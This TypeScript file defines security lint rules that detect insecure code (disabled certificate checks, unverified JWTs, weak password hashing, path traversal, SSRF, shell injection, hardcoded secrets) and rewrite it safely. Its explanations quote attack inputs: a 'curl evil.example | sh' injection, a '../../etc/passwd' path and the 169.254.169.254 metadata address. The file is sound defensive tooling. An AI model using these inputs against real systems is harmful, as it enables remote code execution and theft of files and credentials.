// What lets others in, or lets them read along: unchecked certificates, secrets in the text, identities that nobody checks, input that
// becomes a command, a path or an address.
import type { Fault } from './fault';
import { callIn, withArgs } from './rewriting';

const ca = '/etc/ssl/own-ca.pem';

/** A path in a variable of its environment, as each language reads it. */
function fromEnvironment(code: string, name: string): string {
  if (/\bos\.|\bdef \w|^\s*\w+\s*=\s*["']/m.test(code) && !/\b(?:const|let|var|new|await)\b|;/.test(code)) return `os.environ["${name}"]`;
  if (/:=|\bfunc \w/.test(code)) return `os.Getenv("${name}")`;
  if (/\b(?:String|private|public|static|final)\b/.test(code)) return `System.getenv("${name}")`;
  return `process.env.${name}`;
}

const upper = (name: string): string => name.replace(/([a-z])([A-Z])/g, '$1_$2').replace(/[^\w]+/g, '_').toUpperCase();

export const security: readonly Fault[] = [
  {
    topic: 'tls-and-mtls', rules: ['tls-verification-disabled'], beyondFix: true,
    shape: /\brejectUnauthorized\s*:\s*false|\bverify\s*=\s*False|\bInsecureSkipVerify:\s*true|\bNODE_TLS_REJECT_UNAUTHORIZED["']?\]?\s*=\s*["']?0["']?|\bdanger_accept_invalid_certs\(true\)|\bcurl\s+(?:-\w*k\w*|--insecure)\b|\bServerCertificateCustomValidationCallback\s*=|\bDangerousAcceptAnyServerCertificateValidator|\b(?:TrustServerCertificate|trustServerCertificate)\s*=\s*true|\bStrictHostKeyChecking[ =]no\b|\bproxy_ssl_verify\s+off|\b(?:wget\s+--no-check-certificate)\b|\bssl\._create_unverified_context\(\)|\binsecure_skip_verify:\s*true/i,
    says: ({ match: [found = ''], code }) => `\`${found}\` turns off the check who is at the other end: the connection is encrypted, but to whoever answers. Anybody on the way to ${/\/\/([\w.-]+)/.exec(code)?.[1] ?? 'the server'} can show a certificate of their own, read everything and change it. Keep the check, and give the client the certificate of the authority that signed yours.`,
    mend: (code) => code
      .replace(/\brejectUnauthorized\s*:\s*false/, `ca: fs.readFileSync('${ca}')`)
      .replace(/\bverify\s*=\s*False/, `verify="${ca}"`)
      .replace(/\bInsecureSkipVerify:\s*true/i, 'RootCAs: pool')
      .replace(/^(?=[\s\S]*RootCAs: pool)/, `pem, err := os.ReadFile("${ca}") // handle err\npool := x509.NewCertPool()\npool.AppendCertsFromPEM(pem)\n`)
      .replace(/\bprocess\.env(?:\.|\[["'])NODE_TLS_REJECT_UNAUTHORIZED(?:["']\])?\s*=\s*["']?0["']?;?/, `// start with NODE_EXTRA_CA_CERTS=${ca}; nothing in the code`)
      .replace(/\bNODE_TLS_REJECT_UNAUTHORIZED=["']?0["']?/, `NODE_EXTRA_CA_CERTS=${ca}`)
      .replace(/\.danger_accept_invalid_certs\(true\)/, `.add_root_certificate(reqwest::Certificate::from_pem(&std::fs::read("${ca}")?)?)`)
      .replace(/\b(curl\s+)(?:-k\b|--insecure\b)/, `$1--cacert ${ca}`).replace(/\b(curl\s+-\w*)k(\w*)/, `$1$2 --cacert ${ca}`)
      .replace(/\bwget\s+--no-check-certificate/, `wget --ca-certificate=${ca}`)
      .replace(/\b(TrustServerCertificate|trustServerCertificate)\s*=\s*true/i, '$1=false')
      .replace(/\bStrictHostKeyChecking([ =])no\b/i, 'StrictHostKeyChecking$1yes')
      .replace(/\bproxy_ssl_verify\s+off/, `proxy_ssl_verify on;\n    proxy_ssl_trusted_certificate ${ca}`)
      .replace(/\bssl\._create_unverified_context\(\)/, `ssl.create_default_context(cafile="${ca}")`)
      .replace(/\binsecure_skip_verify:\s*true/, `ca_file: ${ca}`)
      .replace(/(?:handler\.)?ServerCertificateCustomValidationCallback\s*=\s*[^;}]*;?/, '/* removed: the certificate is checked again; the CA belongs into the trust store of the machine */'),
    remains: ({ words }) => `${/self.?signed/i.test(words) ? 'For a single self-signed certificate that file is the certificate itself; an authority of your own is better, since certificates then can be renewed without touching clients. ' : ''}The name in the certificate must be the host name you call. ${/StrictHost/i.test(words) ? 'Put the host key into `known_hosts` beforehand.' : 'Mount the file, and never ship its key.'}`,
  },
  {
    topic: 'tls-and-mtls', rules: ['plaintext-connection'], shape: /\bsslmode=(?:disable|allow|prefer|require)\b|\bsslMode=DISABLED\b|\buseSSL=false\b|\bssl_mode:\s*disabled/i,
    says: ({ match: [found = ''] }) => (/require|prefer|allow/i.test(found) ? `\`${found}\` encrypts${/require/.test(found) ? '' : ' only if the server likes to'}, and does not check who answers: whoever is on the way can be the database. Only \`verify-full\` checks the certificate and the name in it.` : `with \`${found}\` the password and every row cross the network readable: each machine on the way can take them along.`),
    mend: [[/\bsslmode=\w+/, `sslmode=verify-full&sslrootcert=${ca}`], [/\bsslMode=DISABLED/, 'sslMode=VERIFY_IDENTITY'], [/\buseSSL=false/i, 'sslMode=VERIFY_IDENTITY']],
    remains: 'Let the server refuse what is not encrypted (`hostssl` in `pg_hba.conf`), and change the password, which has been on the wire.',
  },
  {
    topic: 'tls-and-mtls', rules: ['weak-tls-version'], shape: /\bssl_protocols\s+[^;]*\bTLSv1(?:\.1)?(?![.\d])[^;]*;?|\b(?:minVersion|min_version|MinVersion)\s*[:=]\s*['"]?(?:TLSv1(?:\.1)?|tls\.VersionTLS1[01]|TLS1_[01])['"]?(?![.\d])/,
    says: ({ match: [found = ''] }) => `\`${found.trim()}\` still allows TLS 1.0 or 1.1, which have known weaknesses and which every client of the last ten years can do without: an attacker on the way may push a connection down to them.`,
    mend: [[/\bssl_protocols\s+[^;]*;?/, 'ssl_protocols TLSv1.2 TLSv1.3;'], [/TLSv1(?:\.1)?(?=['"])/, 'TLSv1.2'], [/tls\.VersionTLS1[01]/, 'tls.VersionTLS12']],
    remains: 'Look into the log first which clients still come with the old ones (`$ssl_protocol`).',
  },
  {
    topic: 'authn-and-authz', shape: /\bjwt\.decode\(([^()]*(?:\([^()]*\)[^()]*)*)\)|verify_signature["']?\s*:\s*False|\balgorithms?["']?\s*[:=]\s*\[?\s*["']none["']/i, unless: /jwt\.decode\([^\n]*(?:\bkey\b|secret|algorithms=\[["'](?!none))/i,
    says: ({ match: [found = ''], code }) => `\`${found.slice(0, 60)}\` reads the token and checks no signature: anybody can write one${/role\s*===?\s*['"]admin/.test(code) ? ' with `"role":"admin"` in it and is let through' : ' for any user'}. Verify it with the issuer's public key, the one algorithm you expect, issuer and audience.`,
    mend: (code) => {
      const call = callIn(code, /\bjwt\.decode\(/);
      if (!call) return code.replace(/verify_signature(["']?\s*:\s*)False/, 'verify_signature$1True').replace(/(["'])none\1/i, '$1RS256$1');
      const args = call.args.slice(0, 1);
      return /\boptions\s*=|\bdef \w|request\.headers\[/.test(code) && !/\bconst\b|;/.test(code)
        ? withArgs(code, call, [...args, 'public_key', 'algorithms=["RS256"]', 'issuer=ISSUER', 'audience="this-service"'])
        : withArgs(code, call, [...args, 'publicKey', "{ algorithms: ['RS256'], issuer: ISSUER, audience: 'this-service' }"]).replace(/\bjwt\.decode\(/, 'jwt.verify(');
    },
    remains: '`verify` throws for a bad or expired token: answer 401 there, and 403 if the role is missing, instead of letting the request hang. Then still check for each object whether this user may have it.',
  },
  {
    topic: 'authn-and-authz', shape: /\bjwt\.sign\(\s*[^)]*\)/, unless: /expiresIn|exp\b/,
    says: ({ match: [found = ''] }) => `\`${found.slice(0, 60)}\` gives a token that never ends: whoever copies it once is that user for ever, and nothing takes it back.`,
    mend: (code) => { const call = callIn(code, /\bjwt\.sign\(/); return call && withArgs(code, call, [...call.args.slice(0, 2).map((arg, at) => (at === 1 && /^["']/.test(arg) ? 'process.env.JWT_SECRET' : arg)), "{ algorithm: 'HS256', expiresIn: '15m', audience: 'this-service' }"]); },
    remains: 'Beside it a refresh token that is stored, changes with each use and can be revoked.',
  },
  {
    topic: 'encryption', shape: /\b(\w+)\.password\s*(?:===?|\.equals\()\s*(req(?:uest)?\.\w+(?:\.\w+)?|[\w.]*password\w*)|\b(req(?:uest)?\.body\.password|password)\s*===?\s*(\w+)\.password/i,
    says: ({ match: [found = '', first, second, third, fourth] }) => `\`${found}\` works only if the passwords are stored readable: whoever sees the table, a backup or a log has all of them, and those of the same people elsewhere. ${first ?? fourth ?? ''}`.replace(new RegExp(` ${first ?? fourth ?? ''}$`), ` Store an Argon2id hash of it and compare with that.${second ?? third ? '' : ''}`),
    mend: (code, { match: [whole, first, second, third, fourth] }) => code.replace(whole, `await argon2.verify(${first ?? fourth ?? 'user'}.passwordHash, ${(second ?? third ?? 'password').replace(/\($/, '')}`.concat(')')),
    remains: 'Limit attempts (say 5 a minute for each account and address), answer the same for an unknown user and a wrong password, in the same time, and let the token end soon. When people register: `argon2.hash(password)`. Old passwords: hash the stored ones at once, in one migration.',
  },
  {
    topic: 'encryption', shape: /\b(?:hashlib\.)?(md5|sha1|sha256|sha512)\(\s*([^()]*(?:password|passwd|pwd|pin)\w*[^()]*(?:\([^()]*\)[^()]*)?)\)(?:\.hexdigest\(\))?|createHash\(\s*['"](md5|sha1|sha256|sha512)['"]\s*\)\.update\(\s*([^()]*(?:password|pwd)[^()]*)\)(?:\.digest\([^)]*\))?|MessageDigest\.getInstance\(\s*"(MD5|SHA-?1|SHA-256)"/i,
    says: ({ match: [, a, , b, , c] }) => `${(a ?? b ?? c ?? '').toUpperCase().replace(/^SHA(\d)/, 'SHA-$1')} is made to be quick: one graphics card tries billions of passwords a second, and without a salt equal passwords have equal hashes, so ready-made tables break most at once. Passwords need a slow, salted hash: Argon2id.`,
    mend: [[/\bhashlib\.\w+\(\s*(\w+)(?:\.encode\([^)]*\))?\s*\)(?:\.hexdigest\(\))?/, 'PasswordHasher().hash($1)  # from argon2; later: PasswordHasher().verify(stored, $1)'], [/(?:crypto\.)?createHash\([^)]*\)\.update\(\s*([^()]*)\)(?:\.digest\([^)]*\))?/, 'await argon2.hash($1)'], [/(?<![.\w])(?:md5|sha1|sha256)\(\s*([^()]*)\)/i, 'await argon2.hash($1)']],
    remains: 'Old hashes: wrap them now (`argon2(old hash)`), and replace each at the user\'s next login. Limit the number of attempts as well.',
  },
  {
    topic: 'encryption', shape: /\bMODE_ECB\b|["']AES(?:\/ECB[^"']*)?["']|['"]aes-\d+-(?:ecb)['"]|['"]des(?:-ede3)?[^'"]*['"]/i,
    says: ({ match: [found = ''] }) => `\`${found}\` is ECB: each 16 bytes are encrypted by themselves with the same key, so equal pieces of the text are equal in the result, patterns stay visible, and blocks can be swapped or repeated unnoticed, since nothing proves integrity. Take GCM: encrypted and protected against change in one.`,
    mend: (code) => code.replace(/(\w+)\s*=\s*AES\.new\(\s*(\w+)\s*,\s*AES\.MODE_ECB\s*\)/, '$1 = AES.new($2, AES.MODE_GCM)  # a fresh random nonce each time\nciphertext, tag = $1.encrypt_and_digest(text)\nstored = $1.nonce + tag + ciphertext')
      .replace(/(["'])AES(?:\/ECB[^"']*)?\1/, '$1AES/GCM/NoPadding$1').replace(/(['"])aes-(\d+)-ecb\1/i, '$1aes-$2-gcm$1').replace(/,\s*null\s*\)/, ', randomBytes(12))'),
    remains: 'Never use a nonce twice with the same key, keep it and the tag beside the text, and refuse what does not verify. Old data: decrypt and encrypt anew, row by row.',
  },
  {
    topic: 'input-validation', shape: /\b(?:sendFile|readFile(?:Sync)?|createReadStream|open|send_file|ReadFile|path\.join)\(\s*(?:path\.join\()?\s*(["'`][^"'`]*["'`]|[\w.]+)\s*(?:\+|,)\s*(req(?:uest)?\.(?:query|params|body|args)(?:\.\w+|\[['"]?\w+['"]?\])*)/,
    says: ({ match: [, base = '', input = ''] }) => `\`${input}\` is part of the path, so \`?…=../../etc/passwd\` leads out of ${base} and every file the process may read can be fetched, your secrets among them. Resolve first, then check that it is still inside.`,
    mend: (code, { match: [, base = '', input = ''] }) => {
      if (/\bopen\(|send_file|args/.test(code)) return `base = Path(${base}).resolve()\nfull = (base / ${input}).resolve()\nif not full.is_relative_to(base):\n    abort(404)\n${code.replace(/\b(open|send_file)\(\s*(?:os\.path\.join\()?[^)]*\)?\)?/, '$1(full)')}`;
      const handler = /^([\s\S]*?=>\s*)\{?\s*([\s\S]*?)\}?(\s*\)\s*;?)$/.exec(code);
      return `const base = path.resolve(${base});\n${handler ? `${handler[1]!}{\n  const full = path.resolve(base, String(${input}));\n  if (!full.startsWith(base + path.sep)) return res.sendStatus(404);\n  ${/sendFile/.test(code) ? 'res.sendFile(full);' : 'const content = await fs.promises.readFile(full);'}\n}${handler[3]!}` : `const full = path.resolve(base, String(${input}));\nif (!full.startsWith(base + path.sep)) throw new Error('not found');`}`;
    },
    remains: 'A symbolic link inside can still point out (`fs.realpath` sees through it). Best of all takes no name from outside: store files under ids of your own, and look them up, with a check whose file it is.',
  },
  {
    topic: 'input-validation', shape: /\b(fetch|axios(?:\.\w+)?|requests\.\w+|http\.Get|urlopen|got)\(\s*((?:req|request|ctx|params|body|event)\b[.[][^),\n]*)/,
    says: ({ match: [, call = '', input = ''] }) => `the user chooses the address in \`${call}(${input})\`, and the request comes from inside of your network: \`http://169.254.169.254/\` hands out the credentials of the machine, and admin pages that trust the network answer too (SSRF).`,
    mend: (code, { match: [, call = '', input = ''] }) => {
      const made = callIn(code, new RegExp(`\\b${call.replace('.', '\\.')}\\(`));
      return made && `const url = new URL(${input});\nif (url.protocol !== 'https:' || !allowedHosts.has(url.hostname)) return res.sendStatus(400);\n${withArgs(code, made, call === 'fetch' ? ['url', "{ redirect: 'error', signal: AbortSignal.timeout(3_000) }"] : ['url.href', ...made.args.slice(1)])}`;
    },
    remains: 'If hosts cannot be listed: resolve the name once, refuse private, loopback and link-local addresses, connect to that very address, and let the egress rules forbid the metadata service anyway.',
  },
  {
    topic: 'input-validation', shape: /\b(exec|execSync|os\.system|subprocess\.(?:run|call|check_output|Popen))\(\s*(`[^`]*\$\{[^`]*`|f?["'][^"'\n]*["'](?:\s*\+\s*[\w.[\]()"']+|(?=[^\n]*shell=True))|f["'][^"'\n]*\{[^"'\n]*["'])/,
    says: ({ match: [, , command = ''] }) => `${command} goes to a shell, so a value such as \`x; curl evil.example | sh\` runs as a command of this process. Start the program with a list of arguments and without a shell: then it is one argument, whatever stands in it.`,
    mend: (code, { match: [whole, call = '', command = ''] }) => {
      const words = command.replace(/^f?["'`]|["'`]$/g, '').replace(/["']\s*\+\s*([\w.[\]()"']+)$/, '{$1}').replace(/\$\{/g, '{').split(/\s+(?![^{]*\})/).filter((word) => word !== '');
      const list = words.map((word) => (/^\{[^}]*\}$/.test(word) ? word.slice(1, -1) : `'${word}'`));
      return /subprocess|os\.system/.test(call) ? code.replace(whole, `subprocess.run([${list.join(', ')}], check=True, timeout=30`).replace(/,\s*shell=True/, '') : code.replace(whole, `${call === 'execSync' ? 'execFileSync' : 'execFile'}(${list[0]!}, [${list.slice(1).join(', ')}]`);
    },
    remains: 'A value that begins with `-` is still read as an option: put `\'--\'` before it, and check its form first.',
  },
  {
    topic: 'least-privilege', shape: /\bcors\(\s*\{[^}]*origin:\s*(?:['"]\*['"]|true)[^}]*credentials:\s*true|Access-Control-Allow-Origin["']?\s*[:,]\s*["']?\*|allow_origins=\[["']\*["']\]/i,
    says: ({ match: [found = ''] }) => (/origin:\s*['"]\*/.test(found) ? 'browsers refuse `*` together with credentials, so this does not even work; and the usual "repair", `origin: true`, lets a page of any site call you with the cookies of your visitor and read the answer. List your own origins.' : /origin:\s*true/.test(found) ? '`origin: true` sends back whatever origin asks: with `credentials: true` a page of any site can call you with the cookies of your visitor and read the answer. List your own origins.' : 'pages of every site may read these answers from a visitor\'s browser. For public data that is fine; for anything that depends on who asks list your own origins.'),
    mend: [[/origin:\s*(?:['"]\*['"]|true)/, "origin: ['https://app.example.com']"], [/(Access-Control-Allow-Origin["']?\s*[:,]\s*["']?)\*/i, '$1https://app.example.com'], [/allow_origins=\[["']\*["']\]/, 'allow_origins=["https://app.example.com"]']],
    remains: 'Put your own origins there. CORS protects readers, not you: who may do what is still checked on each request, and cookies get `SameSite=Lax`.',
  },
  {
    topic: 'authn-and-authz', shape: /\bSet-Cookie:\s*([\w-]+)=[^;\n]*(?:;[^\n]*)?/i, unless: /HttpOnly[\s\S]*Secure|Secure[\s\S]*HttpOnly/i,
    says: ({ match: [found = '', name = ''] }) => `${[!/httponly/i.test(found) ? 'without `HttpOnly` every script on the page can read it' : '', !/;\s*secure/i.test(found) ? 'without `Secure` it also goes over plain HTTP' : '', !/samesite/i.test(found) ? 'and without `SameSite` forms of other sites may send it along' : ''].filter((each) => each !== '').join(', ')}: whoever has \`${name}\` is that user.`,
    mend: (code) => code.replace(/^(\s*Set-Cookie:\s*)([\w-]+=[^;\n]*).*$/im, '$1__Host-$2; Path=/; Max-Age=1800; HttpOnly; Secure; SameSite=Lax'),
    remains: 'Give out a new session id at each login, and end it on the server at logout.',
  },
  {
    topic: 'authn-and-authz', shape: /\b([A-Z]\w*|\w*[rR]epo\w*|\w*[mM]odel|(?:prisma|db)\.\w+)\.(findById|findByPk|findOne|findUnique|get)\(\s*(?:\{\s*(?:where:\s*\{\s*)?_?id:\s*)?(req\.params\.\w+|request\.args\[[^\]]*\]|params\[?[:.]?\w+\]?)/, unless: /owner|userId|user_id|req\.user|current_user/,
    says: ({ match: [, model = '', , input = ''] }) => `nobody asks whose \`${model}\` that is: whoever is signed in changes the number in the address (\`${input}\`) and reads the next customer's. To be known is not to be allowed.`,
    mend: (code, { match: [, , , input = ''] }) => code.replace(/(\{\s*(?:where:\s*\{\s*)?_?id:\s*(?:req\.params\.\w+))/, '$1, owner: req.user.id').replace(/\.(findById|findByPk)\(\s*([^()]*)\)/, `.findOne({ _id: ${input}, owner: req.user.id })`),
    remains: 'Answer 404 if nothing is found, so that nobody learns which ids exist, and test it with a second user for every route.',
  },
  {
    topic: 'input-validation', shape: /\b(Object\.assign\(\s*(\w+)\s*,\s*req\.body\s*\)|(?:await\s+)?(\w+)\.(?:create|update|insert)\(\s*req\.body\s*\)|new (\w+)\(\s*req\.body\s*\)|\{\s*\.\.\.\s*req\.body\s*\})/,
    says: ({ match: [, found = ''] }) => `\`${found}\` takes over every field that somebody sends, also those no form has: \`"role":"admin"\`, \`"balance":1000000\`, \`"ownerId"\`. Name the fields that may come from outside.`,
    mend: [[/req\.body/, 'Input.parse(req.body)'], [/^/, "const Input = z.strictObject({ name: z.string().max(80), email: z.email() }); // zod: only what may be set\n"]],
    remains: 'Put the fields of your form there. `strictObject` refuses unknown ones with an error, which you answer with 400.',
  },
  {
    topic: 'authn-and-authz', shape: /req(?:uest)?\.headers?(?:\.get\()?[.[(]+\s*["'](x-(?:user|role|admin|tenant|forwarded-user)[\w-]*)["']/i,
    says: ({ match: [, header = ''] }) => `\`${header}\` is whatever the caller writes into it: \`curl -H '${header}: 1'\` makes anybody that user. A header proves something only if a proxy of yours sets it and nobody can reach you past that proxy.`,
    mend: [[/req(?:uest)?\.headers?(?:\.get\()?[.[(]+\s*["']x-(?:user|role|admin|tenant|forwarded-user)[\w-]*["']\s*[\])]+/i, "jwt.verify(bearer(req), publicKey, { algorithms: ['RS256'], issuer: ISSUER, audience: 'this-service' }).sub"]],
    remains: 'If a gateway does the checking, let it strip the header from outside and authenticate itself with mTLS.',
  },
  {
    topic: 'zero-trust', shape: /(\w[\w.]*)\.startsWith\(\s*['"](?:10\.|192\.168|172\.)[^'"]*['"]\s*\)|\bisInternal\w*\([^)]*\)/i,
    says: ({ match: [found = ''] }) => `\`${found}\` takes the network for a proof: one container that was taken over, a VPN user or an SSRF stands inside as well and is let through without a name. Ask who is calling, each time.`,
    mend: [[/\w[\w.]*\.startsWith\(\s*['"](?:10\.|192\.168|172\.)[^'"]*['"]\s*\)|\bisInternal\w*\([^)]*\)/i, "mayCall(await callerOf(req), 'this-route')"]],
    remains: '`callerOf` takes the identity from the client certificate (mTLS) or a verified token. The address may stay as a second hurdle, and never be the only one.',
  },
  {
    topic: 'key-management', shape: /\b(\w*(?:KEY|key))\s*[:=]\s*(?:Buffer\.from\(|b)?(["'])([0-9a-zA-Z+/=]{16,})\2/, unless: /api_?key|AKIA/i,
    says: ({ match: [, name = ''] }) => `\`${name}\` stands in the code, so everybody who has a copy of the repository, of the image or of an old commit can read all that was ever encrypted with it, and it cannot be changed without a release.`,
    mend: (code, { match: [, name = '', quote = '', value = ''] }) => code.replace(new RegExp(`b?${quote}${value.replace(/[+]/g, '\\+')}${quote}`), fromEnvironment(code, upper(name))),
    remains: 'Taking it out does not help by itself: make a new key, encrypt anew, then destroy the old one. Better still the key stays in a KMS that wraps a data key for each record.',
  },
  {
    topic: 'secrets-management', rules: ['hardcoded-credential'], beyondFix: true, shape: /(?<![\w-])(\w*(?:password|passwd|pwd|secret|api_?key|token))(["']?\s*[:=]\s*)(["'])(?![$<{]|process\.env)[^"'${}\s<]{4,}\3|^\s*(?:ENV|ARG)\s+(\w*(?:PASSWORD|SECRET|TOKEN|KEY)\w*)[= ](\S+)|^(\s*-?\s*)([\w.-]*(?:PASSWORD|SECRET|TOKEN)\w*)\s*[:=]\s*(?![$"'{<]|\/)(\S+)\s*$/im, unless: /_FILE|process\.env\.\w*(?:PASS|SECRET)/,
    says: ({ match: [, a, , , b, , , c], code }) => `\`${a ?? b ?? c ?? 'it'}\` stands readable in ${/^FROM|^\s*ENV/m.test(code) ? 'every layer of the image: `docker history` shows it to whoever may pull' : /services:|image:/.test(code) ? 'the file, and so in the repository, in everybody\'s copy and in `docker inspect`' : 'the code, and so in every copy of the repository and in its history'}. Replace the value first, since it is known, then hand it over at run time.`,
    mend: (code, { match: [whole, name, middle = '', , env, , indent = '', key] }) => {
      if (env !== undefined) return code.replace(whole.trim(), `# ${env}: given when the container starts, from a secret`);
      if (key !== undefined && /services:|image:/.test(code)) return `${code.replace(whole.replace(/^\n/, ''), `${indent.replace(/^\n/, '')}${key}_FILE: /run/secrets/${key.toLowerCase()}`)}\n# and below: secrets: { ${key.toLowerCase()}: { file: ./secrets/${key.toLowerCase()} } }, named in the service as well`;
      if (key !== undefined) return code.replace(whole.trim(), `${key}=\${${upper(key)}}`);
      return name === undefined ? undefined : code.replace(whole, `${name}${middle}${fromEnvironment(code, upper(name))}`);
    },
    remains: 'Deleting the line does not help: it stays in the history, so the old value must be worthless. A secret store that hands out short-lived credentials is the step after that.',
  },
  {
    topic: 'audit-logs', shape: /\b(?:console\.\w+|log(?:ger)?\.\w+|print(?:ln)?|logging\.\w+)\([^)\n]*\b(?:password|authorization|token|secret|cvv|card_?number|ssn|req\.headers)\b[^)\n]*\)/i,
    says: ({ match: [found = ''] }) => `\`${found.slice(0, 70)}\` writes a secret into the log: from there it goes to the collector, the backups and everybody who may search them, and stays for the whole retention time. Log who and what, never the proof.`,
    mend: [[/\b(?:req(?:uest)?\.headers(?:\.\w+|\[[^\]]*\])?|[\w.]*(?:password|token|secret|cvv|card_?number|ssn|authorization)\w*)(?=\s*[,)}])/i, "'[redacted]'"]],
    remains: 'What is in the logs already: replace these passwords and tokens, and delete the entries. Let the logger redact by name (pino: `redact`).',
  },
  {
    topic: 'authn-and-authz', shape: /\bMath\.random\(\)[^;\n]*|\brandom\.(?:randint|choice|random)\([^)]*\)/, unless: /^(?![\s\S]*(?:token|secret|password|session|reset|code|otp|key|nonce))/i,
    says: ({ match: [found = ''] }) => `\`${found.slice(0, 50)}\` is predictable: who sees a few values can work out the next ones, and with them the tokens of others. Secrets need the random numbers of the operating system.`,
    mend: [[/Math\.random\(\)(?:\.toString\(\d*\))?(?:\.(?:slice|substring|substr)\([^)]*\))?/, "crypto.randomBytes(32).toString('base64url')"], [/\brandom\.(?:randint|choice|random)\([^)]*\)/, 'secrets.token_urlsafe(32)']],
    remains: 'Store only its hash, let it end after minutes, and take it once.',
  },
  {
    topic: 'ddos', shape: /\b(?:express|bodyParser)\.\w+\(\s*\{\s*limit:\s*['"]?(\d+\s*[mg]b|Infinity)['"]?[^}]*\}\s*\)|client_max_body_size\s+(0|\d+[mg])\s*;?/i, unless: /upload/i,
    says: ({ match: [found = '', a, b] }) => `\`${found}\` lets each request bring ${(a ?? b) === '0' ? 'a body without end' : a ?? b ?? 'so much'}, which is held in memory and parsed on the event loop: a few dozen at once end the process, and they cost the sender nothing.`,
    mend: [[/limit:\s*['"]?[^'",}]*['"]?/, "limit: '100kb'"], [/client_max_body_size\s+\w+/, 'client_max_body_size 100k']],
    remains: 'A route that takes uploads gets a limit of its own and streams to disk or object storage.',
  },
];
